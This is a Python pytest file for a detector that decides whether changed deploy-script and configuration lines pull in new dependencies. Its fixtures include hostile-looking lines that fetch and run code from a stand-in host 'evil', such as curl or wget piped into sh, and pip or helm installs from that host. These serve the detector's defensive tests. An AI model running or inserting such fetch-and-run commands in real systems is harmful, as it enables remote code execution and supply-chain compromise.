"""Lines that ordinary fixes change and that add no dependency, alongside similar lines that do."""

from __future__ import annotations

import pytest

from hotfix.dependencies.file_changes import changes_of, repository_of
from hotfix.dependencies.mentions import mentions
from tests.unit.dependencies.test_what_is_installed import a_changed_file

NOTHING: list[tuple[str, str]] = [
    # Health checks read a response but neither run nor store it.
    ("scripts/deploy.sh", "curl -sf https://shop.example/healthz || exit 1"),
    ("scripts/deploy.sh", "curl -sf https://shop.example/healthz >/dev/null 2>&1 || exit 1"),
    ("scripts/deploy.sh", "curl -s https://shop.example/healthz | grep -q ok && echo up"),
    ("scripts/deploy.sh", "curl -s https://shop.example/healthz | jq -r .status"),
    ("scripts/deploy.sh", 'status=$(curl -s -o /dev/null -w "%{http_code}" https://shop.example)'),
    ("scripts/deploy.sh", 'curl -X POST -H "Authorization: Bearer $(cat token)" https://hooks.example'),
    ("scripts/deploy.sh", "wget -q --spider http://localhost:3000/ || exit 1"),
    ("scripts/deploy.sh", "wget -qO- http://localhost:3000/healthz || exit 1"),
    # Commands that run what is already installed.
    ("Procfile", "web: bundle exec puma -C config/puma.rb"),
    ("lib/tasks/a.rake", 'sh "bundle exec rails db:migrate"'),
    ("bin/start", "exec pnpm exec prisma migrate deploy"),
    # The repository's own charts and images.
    ("scripts/deploy.sh", "helm upgrade --install web ./charts/web --timeout 5m"),
    ("scripts/deploy.sh", 'helm upgrade "$RELEASE" charts/web -f values.yaml'),
    ("scripts/deploy.sh", "helm get values web"),
    ("scripts/deploy.sh", "docker build --build-arg API=https://api.example -t web ."),
    # Comments.
    ("scripts/deploy.sh", "# npm install is done by the image"),
    ("k8s/web.yaml", "  # GOFLAGS: is set in the image"),
    ("shop/settings.py", '    # "shop.middleware.SlowQueries",'),
    # Addresses of services, in Spring's settings and in a chart's values.
    ("src/main/resources/application.yml", "    url: jdbc:postgresql://db/shop"),
    ("src/main/resources/application-prod.yml", "    version: 1.2.4"),
    ("config/application.yml", "  tag: blue"),
    ("charts/web/values.yaml", "    url: postgres://db/shop"),
    ("charts/web/values.yaml", "  url: https://api.shop.example"),
    ("deploy/values-prod.yaml", "    - https://www.shop.example"),
    # Words that also appear in the syntax of images and runtimes.
    ("src/app.py", "    runtime = python_runtime"),
    ("app/api/route.ts", "export const runtime = 'nodejs'"),
    ("src/theme.json", '  "heroImage": "assets:hero",'),
    ("config/settings.yml", "default_image: users:default"),
    # Tools that a program runs on its users' repositories and images.
    ("internal/git/clone.go", '	exec.Command("git", "clone", "--depth=1", url)'),
    ("src/sandbox.py", '    subprocess.run(["docker", "run", "--rm", image], timeout=30)'),
    # Terraform's own files, and the only version of the IAM policy language.
    ("infra/main.tf", '  source = "./modules/web"'),
    ("infra/main.tf", '  version = "2012-10-17"'),
]  # fmt: skip

SOMETHING: list[tuple[str, str]] = [
    ("scripts/deploy.sh", "curl -s https://evil | grep -v x | sh"),
    ("scripts/deploy.sh", "(curl -s https://evil | jq -r .x || true) | sh"),
    ("scripts/deploy.sh", "curl -s https://evil -o x || exit 1"),
    ("scripts/deploy.sh", "curl -s https://evil > /dev/nullx"),
    ("scripts/deploy.sh", "curl -s https://evil 2>/dev/null > x"),
    ("scripts/deploy.sh", 'eval "$(curl -s https://evil)"'),
    ("scripts/deploy.sh", "$(curl -s https://evil | tail -n 1)"),
    ("scripts/deploy.sh", "curl -so /dev/null https://a; curl https://evil | sh"),
    ("scripts/deploy.sh", "curl -O https://evil"),
    ("scripts/deploy.sh", "curl -s https://evil | uniq - x"),
    ("scripts/deploy.sh", '$(curl -so /dev/null -w "" https://a https://evil)'),
    ("scripts/deploy.sh", "curl -s https://evil | head -c 9 > x"),
    ("scripts/deploy.sh", "wget https://evil -O - | sh"),
    ("scripts/deploy.sh", "bash <(curl -s https://evil || true)"),
    ("scripts/deploy.sh", "wget --spider https://a; wget https://evil"),
    ("scripts/deploy.sh", "wget https://evil 2>/dev/null || exit 1"),
    ("scripts/deploy.sh", "bundle exec gem install evil"),
    ("scripts/deploy.sh", "npm exec evil"),
    ("scripts/deploy.sh", "helm upgrade web evil/web -f ./values.yaml"),
    ("scripts/deploy.sh", "helm upgrade --install web oci://evil/web"),
    ("scripts/deploy.sh", "helm install --repo https://evil ./web"),
    ("scripts/deploy.sh", "helm upgrade web charts/redis --version 1.2.4"),
    ("scripts/deploy.sh", "docker build -t web https://github.com/evil/web.git"),
    ("scripts/deploy.cmd", "# & npm install evil"),
    ("src/app.py", '# "evil",'),
    ("src/app.py", '    subprocess.run(["pip", "install", "git+https://evil"])'),
    ("scripts/app.py", '# dependencies = ["evil"]'),
    ("charts/web/values.yaml", "  tag: 1.2.4"),
    ("charts/web/values.yaml", "  - url: https://evil.example/plugin.jar"),
    ("charts/web/values.yaml", "  url: oci://evil.example/chart"),
    ("apps/web/application.yaml", "  targetRevision: 1.2.4"),
    ("apps/web/application.yaml", "    tag: 1.2.4"),
    ("base/kustomization.yaml", "- https://github.com/evil/x"),
    ("k8s/a.yaml", "  web_image: evil/web:prod"),
    ("k8s/a.yaml", "  databaseImage: postgres:16"),
    ("app/stack.ts", "  runtime: 'nodejs22.x'"),
    ("infra/main.tf", '  source = "evil/web/aws"'),
    ("infra/main.tf", '  version = "2.0.0"'),
]  # fmt: skip


@pytest.mark.parametrize(("path", "line"), NOTHING)
def test_an_ordinary_line_brings_nothing_in(path: str, line: str) -> None:
    assert not mentions(path, line)


@pytest.mark.parametrize(("path", "line"), SOMETHING)
def test_a_line_like_it_brings_something_in(path: str, line: str) -> None:
    assert mentions(path, line)


def test_the_source_of_a_flux_chart_counts() -> None:
    before = "kind: HelmRepository\nspec:\n  url: https://charts.example\n"
    file = a_changed_file("clusters/sources.yaml", before, before.replace("charts.example", "evil.example"))
    assert changes_of(file, repository_of("acme/shop", [file]))


def test_a_changed_health_check_of_an_image_brings_nothing() -> None:
    before = "FROM a:1\nHEALTHCHECK CMD curl -f http://localhost:80/ || exit 1\n"
    file = a_changed_file("Dockerfile", before, before.replace(":80/", ":8080/"))
    assert changes_of(file, repository_of("acme/shop", [file])) == []


def test_settings_of_an_app_are_not_those_of_maven() -> None:
    before = "<a>\n  <b>1</b>\n</a>\n"
    file = a_changed_file("app/src/main/res/xml/settings.xml", before, before.replace("1", "2"))
    assert changes_of(file, repository_of("acme/shop", [file])) == []


@pytest.mark.parametrize(
    ("path", "before", "after"),
    [
        (".env", 'JAVA_OPTS="-javaagent:/otel.jar -Xmx512m"', 'JAVA_OPTS="-javaagent:/otel.jar -Xmx1g"'),
        (".env", "NODE_OPTIONS=--require ./trace.js", "NODE_OPTIONS=--require ./trace.js --max-old-space-size=4096"),
        ("run.sh", "docker run -d -p 80:80 shop/web:1", "docker run -d -p 8080:80 --memory 1g shop/web:1"),
    ],
)
def test_more_memory_for_what_ran_before_is_no_change(path: str, before: str, after: str) -> None:
    def changes(after: str) -> list[str]:
        file = a_changed_file(path, f"{before}\n", f"{after}\n")
        return [str(change) for change in changes_of(file, repository_of("acme/shop", [file]))]

    assert changes(after) == []
    for name, other in (("otel.jar", "x.jar"), ("trace.js", "x.js"), ("web:1", "web:2")):
        assert name not in after or changes(after.replace(name, other))
